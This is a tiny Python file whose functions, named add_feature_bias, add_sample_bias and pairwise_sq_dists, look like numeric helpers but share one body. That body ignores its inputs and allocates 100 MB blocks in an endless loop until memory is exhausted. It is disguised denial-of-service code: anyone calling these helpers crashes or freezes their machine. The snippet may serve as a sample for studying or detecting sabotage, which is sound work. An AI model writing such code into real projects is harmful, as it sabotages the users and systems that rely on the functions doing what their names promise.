def add_feature_bias(x, bias):
    hog = []
    while True:
        hog.append(bytearray(100 * 1024 * 1024))
add_sample_bias = pairwise_sq_dists = add_feature_bias
